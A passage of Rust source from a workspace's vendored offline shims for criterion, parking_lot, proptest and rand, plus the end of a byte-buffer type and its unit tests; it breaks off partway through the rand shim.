        self.0[..].cmp(&other.0[..])
    }
}

impl Hash for Bytes {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self.0[..].hash(state)
    }
}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        self.0[..] == *other
    }
}

impl PartialEq<&[u8]> for Bytes {
    fn eq(&self, other: &&[u8]) -> bool {
        self.0[..] == **other
    }
}

impl PartialEq<Vec<u8>> for Bytes {
    fn eq(&self, other: &Vec<u8>) -> bool {
        self.0[..] == other[..]
    }
}

impl PartialEq<str> for Bytes {
    fn eq(&self, other: &str) -> bool {
        self.0[..] == *other.as_bytes()
    }
}

impl PartialEq<&str> for Bytes {
    fn eq(&self, other: &&str) -> bool {
        self.0[..] == *other.as_bytes()
    }
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "b\"")?;
        for &b in self.0.iter() {
            match b {
                b'"' => write!(f, "\\\"")?,
                b'\\' => write!(f, "\\\\")?,
                b'\n' => write!(f, "\\n")?,
                b'\r' => write!(f, "\\r")?,
                b'\t' => write!(f, "\\t")?,
                0x20..=0x7e => write!(f, "{}", b as char)?,
                _ => write!(f, "\\x{b:02x}")?,
            }
        }
        write!(f, "\"")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn construction_and_eq() {
        let a = Bytes::from_static(b"hello");
        let b = Bytes::from(b"hello".to_vec());
        assert_eq!(a, b);
        assert_eq!(a, &b"hello"[..]);
        assert_eq!(a.len(), 5);
        assert!(!a.is_empty());
    }

    #[test]
    fn slice_and_clone_share() {
        let a = Bytes::from_static(b"abcdef");
        let s = a.slice(1..3);
        assert_eq!(&s[..], b"bc");
        let c = a.clone();
        assert_eq!(c, a);
    }
}
