//! Offline vendored shim for `criterion`.
//!
//! A minimal harness with criterion's macro/API shape: benchmarks really
//! run and timings print as `<group>/<name> ... <mean> ns/iter (n runs)`,
//! but there is no statistical analysis, HTML report, or baseline
//! comparison. Enough for `cargo bench` to function offline and for the
//! workspace's bench files to compile unchanged.

use std::hint;
use std::time::{Duration, Instant};

/// Prevent the optimizer from discarding a value.
pub fn black_box<T>(x: T) -> T {
    hint::black_box(x)
}

/// Throughput annotation (accepted; reported alongside the mean).
#[derive(Clone, Copy, Debug)]
pub enum Throughput {
    /// Bytes processed per iteration.
    Bytes(u64),
    /// Elements processed per iteration.
    Elements(u64),
}

/// A benchmark identifier: `function_name/parameter`.
pub struct BenchmarkId {
    id: String,
}

impl BenchmarkId {
    /// Create an id from a function name and a parameter value.
    pub fn new(function_name: impl Into<String>, parameter: impl std::fmt::Display) -> BenchmarkId {
        BenchmarkId { id: format!("{}/{}", function_name.into(), parameter) }
    }

    /// Create an id from a parameter value only.
    pub fn from_parameter(parameter: impl std::fmt::Display) -> BenchmarkId {
        BenchmarkId { id: parameter.to_string() }
    }
}

/// The per-benchmark timing handle.
pub struct Bencher {
    iters: u64,
    elapsed: Duration,
}

impl Bencher {
    /// Time `routine`, running it enough times to smooth noise.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        // Warm-up + calibration: find an iteration count that runs for
        // roughly the measurement window.
        let mut n: u64 = 1;
        let target = Duration::from_millis(120);
        loop {
            let start = Instant::now();
            for _ in 0..n {
                black_box(routine());
            }
            let took = start.elapsed();
            if took >= Duration::from_millis(12) || n >= 1 << 24 {
                // Scale up to the target window and measure once more.
                let scale = (target.as_nanos() / took.as_nanos().max(1)).clamp(1, 1 << 12) as u64;
                let m = (n * scale).max(1);
                let start = Instant::now();
                for _ in 0..m {
                    black_box(routine());
                }
                self.elapsed = start.elapsed();
                self.iters = m;
                return;
            }
            n *= 4;
        }
    }

    fn mean_ns(&self) -> f64 {
        if self.iters == 0 {
            0.0
        } else {
            self.elapsed.as_nanos() as f64 / self.iters as f64
        }
    }
}

/// A named group of related benchmarks.
pub struct BenchmarkGroup<'a> {
    name: String,
    throughput: Option<Throughput>,
    _parent: &'a mut Criterion,
}

impl BenchmarkGroup<'_> {
    /// Accepted for API parity; the shim sizes runs by wall-clock.
    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    /// Annotate throughput for subsequent benchmarks.
    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    /// Run a benchmark in this group.
    pub fn bench_function<R: FnMut(&mut Bencher)>(&mut self, id: impl IntoBenchId, mut routine: R) -> &mut Self {
        let mut b = Bencher { iters: 0, elapsed: Duration::ZERO };
        routine(&mut b);
        self.report(&id.into_bench_id(), &b);
        self
    }

    /// Run a parameterized benchmark in this group.
    pub fn bench_with_input<I: ?Sized, R: FnMut(&mut Bencher, &I)>(
        &mut self,
        id: impl IntoBenchId,
        input: &I,
        mut routine: R,
    ) -> &mut Self {
        let mut b = Bencher { iters: 0, elapsed: Duration::ZERO };
        routine(&mut b, input);
        self.report(&id.into_bench_id(), &b);
        self
    }

    /// Finish the group (prints nothing extra; parity with the real API).
    pub fn finish(&mut self) {}

    fn report(&self, id: &str, b: &Bencher) {
        let mean = b.mean_ns();
        let extra = match self.throughput {
            Some(Throughput::Bytes(n)) if mean > 0.0 => {
                format!("  {:.1} MiB/s", n as f64 / mean * 1e9 / (1 << 20) as f64)
            }
            Some(Throughput::Elements(n)) if mean > 0.0 => {
                format!("  {:.1} Melem/s", n as f64 / mean * 1e3)
            }
            _ => String::new(),
        };
        println!("{}/{id}  {mean:.1} ns/iter ({} iters){extra}", self.name, b.iters);
    }
}

/// Conversion into a printable benchmark id.
pub trait IntoBenchId {
    /// Render the id.
    fn into_bench_id(self) -> String;
}

impl IntoBenchId for BenchmarkId {
    fn into_bench_id(self) -> String {
        self.id
    }
}

impl IntoBenchId for &str {
    fn into_bench_id(self) -> String {
        self.to_string()
    }
}

impl IntoBenchId for String {
    fn into_bench_id(self) -> String {
        self
    }
}

/// The harness entry point.
#[derive(Default)]
pub struct Criterion {}

impl Criterion {
    /// Start a named group.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup { name: name.into(), throughput: None, _parent: self }
    }

    /// Run an ungrouped benchmark.
    pub fn bench_function<R: FnMut(&mut Bencher)>(&mut self, id: impl IntoBenchId, mut routine: R) -> &mut Self {
        let mut b = Bencher { iters: 0, elapsed: Duration::ZERO };
        routine(&mut b);
        println!("{}  {:.1} ns/iter ({} iters)", id.into_bench_id(), b.mean_ns(), b.iters);
        self
    }
}

/// Declare a group of benchmark functions.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        fn $name() {
            let mut c = $crate::Criterion::default();
            $($target(&mut c);)+
        }
    };
}

/// Declare the bench binary's `main`.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bencher_measures_something() {
        let mut c = Criterion::default();
        let mut g = c.benchmark_group("g");
        g.bench_function("noop", |b| b.iter(|| 1 + 1));
        g.finish();
    }
}
