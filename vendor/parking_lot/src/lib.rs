//! Offline vendored shim for `parking_lot`.
//!
//! Provides the subset of the `parking_lot` API this workspace uses —
//! [`Mutex`] and [`RwLock`] with non-poisoning guards — implemented on top
//! of `std::sync`. A poisoned std lock (a thread panicked while holding it)
//! is handled the same way parking_lot behaves: the data stays accessible.

use std::fmt;
use std::sync::{
    Mutex as StdMutex, MutexGuard as StdMutexGuard, RwLock as StdRwLock,
    RwLockReadGuard as StdRwLockReadGuard, RwLockWriteGuard as StdRwLockWriteGuard,
};

/// A mutual-exclusion lock whose `lock()` returns the guard directly.
#[derive(Default)]
pub struct Mutex<T: ?Sized>(StdMutex<T>);

/// Guard returned by [`Mutex::lock`].
pub struct MutexGuard<'a, T: ?Sized>(StdMutexGuard<'a, T>);

impl<T> Mutex<T> {
    /// Create a new mutex.
    pub const fn new(value: T) -> Self {
        Mutex(StdMutex::new(value))
    }

    /// Consume the mutex, returning the inner value.
    pub fn into_inner(self) -> T {
        self.0.into_inner().unwrap_or_else(|e| e.into_inner())
    }
}

impl<T: ?Sized> Mutex<T> {
    /// Acquire the lock, blocking until available.
    pub fn lock(&self) -> MutexGuard<'_, T> {
        MutexGuard(self.0.lock().unwrap_or_else(|e| e.into_inner()))
    }

    /// Attempt to acquire the lock without blocking.
    pub fn try_lock(&self) -> Option<MutexGuard<'_, T>> {
        match self.0.try_lock() {
            Ok(g) => Some(MutexGuard(g)),
            Err(std::sync::TryLockError::Poisoned(e)) => Some(MutexGuard(e.into_inner())),
            Err(std::sync::TryLockError::WouldBlock) => None,
        }
    }

    /// Mutable access without locking (requires exclusive borrow).
    pub fn get_mut(&mut self) -> &mut T {
        self.0.get_mut().unwrap_or_else(|e| e.into_inner())
    }
}

impl<T: ?Sized> std::ops::Deref for MutexGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.0
    }
}

impl<T: ?Sized> std::ops::DerefMut for MutexGuard<'_, T> {
    fn deref_mut(&mut self) -> &mut T {
        &mut self.0
    }
}

impl<T: fmt::Debug> fmt::Debug for Mutex<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.try_lock() {
            Some(g) => f.debug_tuple("Mutex").field(&&*g).finish(),
            None => f.write_str("Mutex(<locked>)"),
        }
    }
}

/// A reader-writer lock whose `read()`/`write()` return guards directly.
#[derive(Default)]
pub struct RwLock<T: ?Sized>(StdRwLock<T>);

/// Shared guard returned by [`RwLock::read`].
pub struct RwLockReadGuard<'a, T: ?Sized>(StdRwLockReadGuard<'a, T>);

/// Exclusive guard returned by [`RwLock::write`].
pub struct RwLockWriteGuard<'a, T: ?Sized>(StdRwLockWriteGuard<'a, T>);

impl<T> RwLock<T> {
    /// Create a new rwlock.
    pub const fn new(value: T) -> Self {
        RwLock(StdRwLock::new(value))
    }

    /// Consume the lock, returning the inner value.
    pub fn into_inner(self) -> T {
        self.0.into_inner().unwrap_or_else(|e| e.into_inner())
    }
}

impl<T: ?Sized> RwLock<T> {
    /// Acquire a shared read lock.
    pub fn read(&self) -> RwLockReadGuard<'_, T> {
        RwLockReadGuard(self.0.read().unwrap_or_else(|e| e.into_inner()))
    }

    /// Acquire an exclusive write lock.
    pub fn write(&self) -> RwLockWriteGuard<'_, T> {
        RwLockWriteGuard(self.0.write().unwrap_or_else(|e| e.into_inner()))
    }

    /// Mutable access without locking (requires exclusive borrow).
    pub fn get_mut(&mut self) -> &mut T {
        self.0.get_mut().unwrap_or_else(|e| e.into_inner())
    }
}

impl<T: ?Sized> std::ops::Deref for RwLockReadGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.0
    }
}

impl<T: ?Sized> std::ops::Deref for RwLockWriteGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.0
    }
}

impl<T: ?Sized> std::ops::DerefMut for RwLockWriteGuard<'_, T> {
    fn deref_mut(&mut self) -> &mut T {
        &mut self.0
    }
}

impl<T: fmt::Debug> fmt::Debug for RwLock<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self.0.try_read() {
            Ok(g) => f.debug_tuple("RwLock").field(&&*g).finish(),
            Err(_) => f.write_str("RwLock(<locked>)"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mutex_round_trip() {
        let m = Mutex::new(1);
        *m.lock() += 1;
        assert_eq!(*m.lock(), 2);
    }

    #[test]
    fn rwlock_round_trip() {
        let l = RwLock::new(vec![1]);
        l.write().push(2);
        assert_eq!(l.read().len(), 2);
    }
}
