//! Offline vendored shim for `proptest`.
//!
//! Deterministic property-testing harness implementing the API subset
//! this workspace uses: the `proptest!` / `prop_assert!` /
//! `prop_assert_eq!` / `prop_assert_ne!` / `prop_oneof!` macros, the
//! [`Strategy`](strategy::Strategy) trait with `prop_map`, integer-range /
//! tuple / `Just` / regex-subset string strategies, `any::<T>()`, and
//! `collection::vec`.
//!
//! Differences from the real crate: no shrinking (a failing case reports
//! its seed instead), and case generation is seeded deterministically from
//! the test name so runs are reproducible. Case count defaults to 64 and
//! is overridable via `PROPTEST_CASES`.

pub mod strategy;
pub mod test_runner;

/// `proptest::collection`: strategies for collections.
pub mod collection {
    use crate::strategy::{SizeRange, Strategy, VecStrategy};

    /// A strategy producing `Vec`s of values from `element`, with lengths
    /// drawn uniformly from `size`.
    pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy { element, size: size.into() }
    }
}

/// `proptest::prelude`: what tests import.
pub mod prelude {
    pub use crate::strategy::{any, Just, Strategy};
    pub use crate::test_runner::TestCaseError;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest};
}

/// Define property tests. Each `fn name(arg in strategy, …) { body }`
/// becomes a `#[test]` that runs the body over generated cases.
#[macro_export]
macro_rules! proptest {
    () => {};
    (
        $(#[$meta:meta])*
        fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block
        $($rest:tt)*
    ) => {
        $(#[$meta])*
        fn $name() {
            let __cases = $crate::test_runner::case_count();
            $(let $arg = $strat;)+
            for __case in 0..__cases {
                let __seed = $crate::test_runner::seed_for(concat!(module_path!(), "::", stringify!($name)), __case);
                let mut __rng = $crate::test_runner::TestRng::from_seed(__seed);
                $(let $arg = $crate::strategy::generate_with(&$arg, &mut __rng);)+
                let __outcome: ::std::result::Result<(), $crate::test_runner::TestCaseError> =
                    (|| { $body ::std::result::Result::Ok(()) })();
                if let ::std::result::Result::Err(e) = __outcome {
                    panic!(
                        "proptest case {}/{} failed (seed {:#x}): {}",
                        __case + 1, __cases, __seed, e
                    );
                }
            }
        }
        $crate::proptest! { $($rest)* }
    };
}

/// Assert within a proptest body; failure aborts only the current case
/// with a useful message.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        if !$cond {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::fail(
                ::std::string::String::from(concat!("assertion failed: ", stringify!($cond))),
            ));
        }
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !$cond {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::fail(format!($($fmt)*)));
        }
    };
}

/// `assert_eq!` for proptest bodies.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(
            *l == *r,
            "assertion failed: `{} == {}` (left: `{:?}`, right: `{:?}`)",
            stringify!($left), stringify!($right), l, r
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)*) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(*l == *r, $($fmt)*);
    }};
}

/// `assert_ne!` for proptest bodies.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(
            *l != *r,
            "assertion failed: `{} != {}` (both: `{:?}`)",
            stringify!($left), stringify!($right), l
        );
    }};
}

/// Choose uniformly among several strategies with the same value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {
        $crate::strategy::Union::new(vec![
            $($crate::strategy::Strategy::boxed($strat)),+
        ])
    };
}
