//! Strategies: typed random-value generators.

use crate::test_runner::TestRng;
use rand::Rng;
use std::ops::{Range, RangeInclusive};

/// A generator of values of type `Value`.
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Generate one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    /// Map generated values through `f`.
    fn prop_map<O, F: Fn(Self::Value) -> O>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
    {
        Map { inner: self, f }
    }

    /// Type-erase for use in [`Union`] (`prop_oneof!`).
    fn boxed(self) -> Box<dyn Strategy<Value = Self::Value>>
    where
        Self: Sized + 'static,
    {
        Box::new(self)
    }
}

/// Generate from a borrowed strategy (helper the `proptest!` macro calls;
/// being a free generic fn lets `&&str` arguments infer `S = &str`).
pub fn generate_with<S: Strategy>(s: &S, rng: &mut TestRng) -> S::Value {
    s.generate(rng)
}

impl<V> Strategy for Box<dyn Strategy<Value = V>> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        (**self).generate(rng)
    }
}

/// Always the same value.
#[derive(Clone, Debug)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// `.prop_map` adapter.
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
    type Value = O;
    fn generate(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

/// `prop_oneof!` adapter: uniform choice among boxed strategies.
pub struct Union<V>(Vec<Box<dyn Strategy<Value = V>>>);

impl<V> Union<V> {
    /// Build from boxed alternatives (must be non-empty).
    pub fn new(options: Vec<Box<dyn Strategy<Value = V>>>) -> Union<V> {
        assert!(!options.is_empty(), "prop_oneof! needs at least one alternative");
        Union(options)
    }
}

impl<V> Strategy for Union<V> {
    type Value = V;
    fn generate(&self, rng: &mut TestRng) -> V {
        let idx = rng.gen_range(0..self.0.len());
        self.0[idx].generate(rng)
    }
}

macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
        impl Strategy for RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
    )*};
}
impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_tuple_strategy {
    ($(($($t:ident . $n:tt),+))*) => {$(
        impl<$($t: Strategy),+> Strategy for ($($t,)+) {
            type Value = ($($t::Value,)+);
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$n.generate(rng),)+)
            }
        }
    )*};
}
impl_tuple_strategy! {
    (A.0)
    (A.0, B.1)
    (A.0, B.1, C.2)
    (A.0, B.1, C.2, D.3)
    (A.0, B.1, C.2, D.3, E.4)
}

/// Size bounds for collection strategies.
#[derive(Clone, Copy, Debug)]
pub struct SizeRange {
    lo: usize,
    hi: usize, // exclusive
}

impl From<Range<usize>> for SizeRange {
    fn from(r: Range<usize>) -> SizeRange {
        SizeRange { lo: r.start, hi: r.end.max(r.start + 1) }
    }
}

impl From<RangeInclusive<usize>> for SizeRange {
    fn from(r: RangeInclusive<usize>) -> SizeRange {
        SizeRange { lo: *r.start(), hi: r.end() + 1 }
    }
}

impl From<usize> for SizeRange {
    fn from(n: usize) -> SizeRange {
        SizeRange { lo: n, hi: n + 1 }
    }
}

/// `collection::vec` strategy.
pub struct VecStrategy<S> {
    pub(crate) element: S,
    pub(crate) size: SizeRange,
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;
    fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
        let len = rng.gen_range(self.size.lo..self.size.hi);
        (0..len).map(|_| self.element.generate(rng)).collect()
    }
}

/// `any::<T>()`: the canonical whole-domain strategy for `T`.
pub fn any<T: Arbitrary>() -> AnyStrategy<T> {
    AnyStrategy(std::marker::PhantomData)
}

/// Types with a canonical whole-domain strategy.
pub trait Arbitrary: Sized {
    /// Sample an arbitrary value.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

/// Strategy returned by [`any`].
pub struct AnyStrategy<T>(std::marker::PhantomData<T>);

impl<T: Arbitrary> Strategy for AnyStrategy<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> $t {
                use rand::RngCore;
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> bool {
        use rand::RngCore;
        rng.next_u64() & 1 == 1
    }
}

impl Arbitrary for char {
    fn arbitrary(rng: &mut TestRng) -> char {
        random_char(rng, true)
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut TestRng) -> f64 {
        rng.gen::<f64>() * 2e9 - 1e9
    }
}

/// A biased arbitrary char: mostly printable ASCII, some whitespace and
/// control characters, some multi-byte Unicode — good fuzzing coverage.
fn random_char(rng: &mut TestRng, allow_newline: bool) -> char {
    loop {
        let c = match rng.gen_range(0..10u32) {
            0..=5 => char::from(rng.gen_range(0x20u8..0x7f)), // printable ASCII
            6 => char::from(rng.gen_range(0u8..0x20)),        // control
            7 => char::from_u32(rng.gen_range(0xa0u32..0x250)).unwrap_or('é'),
            8 => char::from_u32(rng.gen_range(0x2190u32..0x2600)).unwrap_or('→'),
            _ => char::from_u32(rng.gen_range(0x1f300u32..0x1f600)).unwrap_or('😀'),
        };
        if allow_newline || c != '\n' {
            return c;
        }
    }
}

// ------------------------------------------------------- regex strategies

/// String strategies from a regex subset: sequences of `[class]`, `.`, or
/// literal atoms with `{m,n}` / `{n}` / `*` / `+` / `?` quantifiers.
/// As in real regex syntax (and the real proptest), `.` excludes `\n`.
impl Strategy for &str {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        generate_from_pattern(self, rng)
    }
}

impl Strategy for String {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        generate_from_pattern(self, rng)
    }
}

enum Atom {
    Class(Vec<(char, char)>), // inclusive ranges
    Dot,
    Literal(char),
}

fn parse_pattern(pat: &str) -> Vec<(Atom, usize, usize)> {
    let chars: Vec<char> = pat.chars().collect();
    let mut atoms = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let atom = match chars[i] {
            '[' => {
                i += 1;
                let mut ranges = Vec::new();
                // A leading ']' is a literal member; '^' negation is not
                // supported (unused in this workspace).
                while i < chars.len() && chars[i] != ']' {
                    let lo = if chars[i] == '\\' && i + 1 < chars.len() {
                        i += 1;
                        chars[i]
                    } else {
                        chars[i]
                    };
                    if i + 2 < chars.len() && chars[i + 1] == '-' && chars[i + 2] != ']' {
                        let hi = chars[i + 2];
                        ranges.push((lo, hi));
                        i += 3;
                    } else {
                        ranges.push((lo, lo));
                        i += 1;
                    }
                }
                i += 1; // closing ']'
                Atom::Class(ranges)
            }
            '.' => {
                i += 1;
                Atom::Dot
            }
            '\\' if i + 1 < chars.len() => {
                i += 2;
                Atom::Literal(chars[i - 1])
            }
            c => {
                i += 1;
                Atom::Literal(c)
            }
        };
        // Quantifier.
        let (lo, hi) = match chars.get(i) {
            Some('{') => {
                let close = chars[i..].iter().position(|&c| c == '}').map(|p| p + i);
                match close {
                    Some(end) => {
                        let body: String = chars[i + 1..end].iter().collect();
                        i = end + 1;
                        match body.split_once(',') {
                            Some((a, b)) => {
                                let lo = a.trim().parse().unwrap_or(0);
                                let hi = b.trim().parse().unwrap_or(lo + 8);
                                (lo, hi)
                            }
                            None => {
                                let n = body.trim().parse().unwrap_or(1);
                                (n, n)
                            }
                        }
                    }
                    None => (1, 1),
                }
            }
            Some('*') => {
                i += 1;
                (0, 8)
            }
            Some('+') => {
                i += 1;
                (1, 8)
            }
            Some('?') => {
                i += 1;
                (0, 1)
            }
            _ => (1, 1),
        };
        atoms.push((atom, lo, hi));
    }
    atoms
}

fn generate_from_pattern(pat: &str, rng: &mut TestRng) -> String {
    let mut out = String::new();
    for (atom, lo, hi) in parse_pattern(pat) {
        let n = rng.gen_range(lo..=hi);
        for _ in 0..n {
            match &atom {
                Atom::Literal(c) => out.push(*c),
                Atom::Dot => out.push(random_char(rng, false)),
                Atom::Class(ranges) if ranges.is_empty() => {}
                Atom::Class(ranges) => {
                    let (a, b) = ranges[rng.gen_range(0..ranges.len())];
                    let c = char::from_u32(rng.gen_range(a as u32..=b as u32)).unwrap_or(a);
                    out.push(c);
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_runner::TestRng;

    fn rng() -> TestRng {
        TestRng::from_seed(42)
    }

    #[test]
    fn ranges_and_tuples() {
        let mut r = rng();
        for _ in 0..100 {
            let v = (0u8..4, 10u64..20).generate(&mut r);
            assert!(v.0 < 4 && (10..20).contains(&v.1));
        }
    }

    #[test]
    fn regex_class_respects_alphabet() {
        let mut r = rng();
        for _ in 0..50 {
            let s = "[a-z0-9]{1,12}".generate(&mut r);
            assert!((1..=12).contains(&s.chars().count()), "{s:?}");
            assert!(s.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit()), "{s:?}");
        }
    }

    #[test]
    fn dot_excludes_newline() {
        let mut r = rng();
        for _ in 0..50 {
            let s = ".{0,64}".generate(&mut r);
            assert!(!s.contains('\n'), "{s:?}");
        }
    }

    #[test]
    fn space_to_tilde_class() {
        let mut r = rng();
        for _ in 0..50 {
            let s = "[ -~]{0,40}".generate(&mut r);
            assert!(s.chars().all(|c| (' '..='~').contains(&c)), "{s:?}");
        }
    }

    #[test]
    fn union_and_map() {
        let mut r = rng();
        let s = crate::prop_oneof![Just(1u8), Just(2u8), (5u8..7).prop_map(|v| v * 10)];
        for _ in 0..50 {
            let v = s.generate(&mut r);
            assert!(v == 1 || v == 2 || v == 50 || v == 60, "{v}");
        }
    }

    #[test]
    fn vec_strategy_sizes() {
        let mut r = rng();
        let s = crate::collection::vec(any::<u8>(), 2..5);
        for _ in 0..50 {
            let v = s.generate(&mut r);
            assert!((2..5).contains(&v.len()));
        }
    }
}
