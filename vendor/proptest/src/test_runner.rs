//! Test-case driving machinery: deterministic RNG and per-case errors.

use std::fmt;

/// Error aborting a single generated case (raised by `prop_assert!`).
#[derive(Clone, Debug)]
pub struct TestCaseError(String);

impl TestCaseError {
    /// A failed case with a message.
    pub fn fail(msg: String) -> TestCaseError {
        TestCaseError(msg)
    }

    /// Alias matching the real crate's constructor.
    pub fn reject(msg: String) -> TestCaseError {
        TestCaseError(msg)
    }
}

impl fmt::Display for TestCaseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for TestCaseError {}

impl From<String> for TestCaseError {
    fn from(s: String) -> Self {
        TestCaseError(s)
    }
}

/// Number of cases per property: `PROPTEST_CASES` env var, default 64.
pub fn case_count() -> u64 {
    std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(64)
}

/// Deterministic seed for (test path, case index): FNV-1a over the name,
/// mixed with the case number.
pub fn seed_for(test_path: &str, case: u64) -> u64 {
    let mut h: u64 = 0xcbf29ce484222325;
    for b in test_path.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100000001b3);
    }
    h ^ case.wrapping_mul(0x9e3779b97f4a7c15)
}

/// The RNG handed to strategies (xoshiro via the vendored `rand` shim).
pub struct TestRng(rand::StdRng);

impl TestRng {
    /// Seeded construction.
    pub fn from_seed(seed: u64) -> TestRng {
        use rand::SeedableRng;
        TestRng(rand::StdRng::seed_from_u64(seed))
    }
}

impl rand::RngCore for TestRng {
    fn next_u32(&mut self) -> u32 {
        self.0.next_u32()
    }
    fn next_u64(&mut self) -> u64 {
        self.0.next_u64()
    }
}
