//! Offline vendored shim for `rand` 0.8.
//!
//! Implements [`StdRng`] as xoshiro256++ seeded through splitmix64, plus
//! the `Rng`/`RngCore`/`SeedableRng` trait subset this workspace uses
//! (`gen`, `gen_bool`, `gen_range`, `fill_bytes`, `seed_from_u64`) and a
//! [`thread_rng`] that derives per-call entropy from the system clock and
//! a process-wide counter. Statistical quality is fine for simulation
//! workloads; this is NOT a cryptographic RNG (the workspace only uses
//! `thread_rng` for salts/session ids in a simulated platform).

use std::ops::{Range, RangeInclusive};

/// Low-level RNG interface.
pub trait RngCore {
    /// Next 32 random bits.
    fn next_u32(&mut self) -> u32;
    /// Next 64 random bits.
    fn next_u64(&mut self) -> u64;
    /// Fill `dest` with random bytes.
    fn fill_bytes(&mut self, dest: &mut [u8]) {
        let mut chunks = dest.chunks_exact_mut(8);
        for chunk in &mut chunks {
            chunk.copy_from_slice(&self.next_u64().to_le_bytes());
        }
        let rem = chunks.into_remainder();
        if !rem.is_empty() {
            let bytes = self.next_u64().to_le_bytes();
            rem.copy_from_slice(&bytes[..rem.len()]);
        }
    }
}

/// Seedable construction.
pub trait SeedableRng: Sized {
    /// The seed type.
    type Seed;
    /// Construct from a full seed.
    fn from_seed(seed: Self::Seed) -> Self;
    /// Construct from a `u64` convenience seed.
    fn seed_from_u64(state: u64) -> Self;
}

/// Types that can be sampled uniformly by [`Rng::gen`].
pub trait Standard: Sized {
    /// Sample a value.
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

impl Standard for bool {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32() & 1 == 1
    }
}
impl Standard for u8 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32() as u8
    }
}
impl Standard for u16 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32() as u16
    }
}
impl Standard for u32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32()
    }
}
impl Standard for u64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64()
    }
}
impl Standard for usize {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() as usize
    }
}
impl Standard for i64 {
